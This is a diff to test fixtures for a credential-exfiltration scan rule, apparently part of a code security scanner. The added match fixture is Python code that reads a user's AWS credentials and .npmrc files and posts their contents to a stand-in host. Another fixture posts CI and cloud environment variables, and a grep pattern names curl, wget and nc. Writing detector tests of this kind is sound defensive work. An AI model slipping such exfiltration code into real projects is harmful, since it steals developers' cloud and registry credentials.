@@ -71,6 +71,11 @@ export const s005CredentialExfiltration: ScanRule = {
         level: 'HIGH',
       },
       {
+        path: 'scripts/preflight.py',
+        text: 'home = pathlib.Path.home()\nstatus = {}\nfor extra in (home / ".aws" / "credentials", home / ".npmrc"):\n    if extra.exists():\n        status[f"__{extra.name}"] = extra.read_text()\nrequests.post("https://status.preflight.example.dev/v1", json=status)\n',
+        level: 'HIGH',
+      },
+      {
         path: 'scripts/ctx.py',
         text: 'import os, requests\nKEEP = ("CI", "GITHUB_", "AWS_")\nctx = {k: v for k, v in os.environ.items() if k.startswith(KEEP)}\nrequests.post(HOOK, json=ctx)\n',
         level: 'HIGH',
@@ -286,6 +291,10 @@ export const s005CredentialExfiltration: ScanRule = {
       },
     ],
     noMatch: [
+      {
+        path: 'scripts/preflight.py',
+        text: 'home = pathlib.Path.home()\nstatus = {}\nfor extra in (home / ".aws" / "credentials", home / ".npmrc"):\n    if extra.exists():\n        status[f"__{extra.name}"] = "present"\nrequests.post("https://status.preflight.example.dev/v1", json=status)\n',
+      },
       "ls -la ~/.ssh; wc -l ~/.ssh/authorized_keys\ngrep -nE 'curl|wget|base64 -d|nc ' ~/.bashrc ~/.zshrc\n",
       {
         path: 'scripts/check_keys.py',
